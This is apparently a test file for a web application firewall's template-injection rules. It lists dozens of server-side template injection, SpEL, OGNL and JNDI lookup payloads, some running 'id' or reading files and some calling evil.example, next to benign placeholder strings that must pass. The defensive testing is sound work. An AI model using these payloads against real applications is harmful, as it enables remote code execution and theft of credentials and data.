import { expect } from 'chai';
import { findMissed, listRules, findWronglyBlocked } from './helpers.js';

const ATTACKS = [
  '{{7*7}}',
  '${7*7}',
  '<%= 7*7 %>',
  '#{7*7}',
  '{{config}}',
  '{{self}}',
  "{{''.__class__.__mro__[1].__subclasses__()}}",
  "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
  "${T(java.lang.Runtime).getRuntime().exec('id')}",
  '*{7*7}',
  '{php}echo `id`;{/php}',
  '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
  '#set($x=7*7)${x}',
  '${{7*7}}',
  "{{7*'7'}}",
  '${jndi:ldap://evil.example/a}',
  '${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/x}',
  "%{(#_memberAccess['allowStaticMethodAccess']=true)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{{cycler.__init__.__globals__.os.popen('id').read()}}",
  '@(7*7)',
  "{{'x'.toUpperCase()}}",
  '${"id".execute().text}',
  "${new java.io.File('/tmp').listFiles()}",
  "{{['id']|map('passthru')}}",
  '{{ {\'id\':\'shell_exec\'}|map(\'call_user_func\')|join }}',
  '{{ dump(_context) }}',
  "{{ ''.class.mro()[1] }}",
  '{{=7*7}}',
  '{{7|add:7}}',
  '$ex.waitFor()',
  '#if($x.getClass())',
  "{% set cmd = 'id' %}",
  "{% include 'admin/base.html' %}",
  '{% debug %}',
  '{{#with "s" as |string|}}',
  '<%= [1][File.read("/etc/hosts")] %>',
  '[="freemarker.template.utility.Execute"?new()("id")]',
  "- x = global.process.mainModule.require('fs')",
  // Credentials and engine settings read through a path; spaced dunders; built-ins on literals.
  '{{ request.user.password }}',
  '{{ order.customer.api_key }}',
  '{{ messages.storages.0.signer.key }}',
  '<%= _.templateSettings.interpolate %>',
  '{{= _.VERSION }}',
  "{{ ''.__ class __.__ mro __ }}",
  '${7?string.number}',
];


const LOOK_ALIKES = [
  '{{name}}',
  'Hello {{ first_name }}, your order is ready',
  '${price}',
  '#{order_id}',
  '{% if in_stock %}',
  'Price: ${price} (was $19.99)',
  'Hello {{ customer.first_name }}',
  'Total {{ 2 items }}',
  '{% $NUM_VIEWS|STRING_FORMAT:"%D" %} VUES',
  '5*5 tile',
  '{"items":[{"id":1,"qty":2}]}',
  'Save 50% {today only}',
  'email me @ john',
  '{{ customer.password_hint_shown }}',
  'Reset your password at {{ shop.url }}',
  '${price?string.currency}',
  '{{ user.username }}',
  'Use code __ SAVE __ at checkout',
];

describe('waf template / expression injection', () => {
  it('blocks template probes, interpreter walks, OGNL/SpEL and JNDI lookups', () => {
    expect(findMissed(ATTACKS)).to.deep.equal([]);
  });

  it('passes placeholders and braces without an expression body', () => {
    expect(findWronglyBlocked(LOOK_ALIKES)).to.deep.equal([]);
  });

  it('names the technique', () => {
    expect(listRules('{{7*7}}', 'ssti')).to.include('ssti.arithmetic-probe');
    expect(listRules('${jndi:dns://x}', 'ssti')).to.include('ssti.jndi-lookup');
  });
});
